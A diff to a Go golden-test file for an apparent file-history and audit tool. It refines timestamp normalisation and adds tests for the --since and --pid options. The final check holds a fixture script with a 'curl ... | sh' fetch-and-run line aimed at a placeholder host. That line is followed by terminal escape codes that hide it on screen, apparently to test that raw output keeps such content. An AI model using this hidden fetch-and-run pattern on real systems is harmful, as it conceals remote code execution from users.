@@ -62,7 +62,7 @@ func (h *inproc) run(args ...string) result {
 // The normaliser: what differs from one run to the next, or from one machine to another, is
 // replaced by a placeholder, and nothing else is touched.
 //   - the temporary directory holding root/ and state/: $TMP
-//   - RFC 3339 times: <time>; integers of 19 digits (nanosecond times): <ns>
+//   - RFC 3339 times from 2020 on: <time> (the examples in messages stay); integers of 19 digits (nanosecond times): <ns>
 //   - durations: printed with two decimals ("in 0.01s"), and JSON "seconds": <dur>
 //   - inode and device numbers (JSON and ECS "inode", "dev", "device"): <n>
 //   - hash-chain hashes ("hash" and "head" in JSON and ECS, the head in --verify's text),
@@ -72,7 +72,7 @@ func (h *inproc) run(args ...string) result {
 //   - birth times, which only some filesystems record, are removed: the "btime" and "btime_ns"
 //     fields of JSON (with the comma before them), ECS's "created", and the timeline's "; born".
 var (
-	reTime     = regexp.MustCompile(`\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d{1,9})?Z`)
+	reTime     = regexp.MustCompile(`20[2-9]\d-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d{1,9})?Z`)
 	reNS       = regexp.MustCompile(`\b\d{19}\b`)
 	reDur      = regexp.MustCompile(`\b\d+\.\d\ds\b`)
 	reInode    = regexp.MustCompile(`("(?:inode|dev|device)":\s*"?)\d+`)
@@ -207,6 +207,8 @@ func TestGolden(t *testing.T) {
 	h.golden("history-all-json", "history", "--format", "json")
 	h.golden("history-verify", "history", "--verify")
 	h.golden("show-missing-version", "show", "/"+script+"@4")
+	h.golden("history-bad-since", "history", "--since", "yesterday")
+	h.golden("history-by-pid", "history", "--pid", strconv.Itoa(os.Getpid()), "--format", "json")
 
 	// show to a buffer (a pipe, a file) is byte for byte: the golden files hold text only.
 	if r := h.run("show", "/"+script+"@2"); r.code != 0 || r.stdout != "#!/bin/sh\ntar czf /var/backups/etc.tgz /etc\ncurl -s http://example.invalid/x | sh\r\x1b[Kecho backup done\n" {
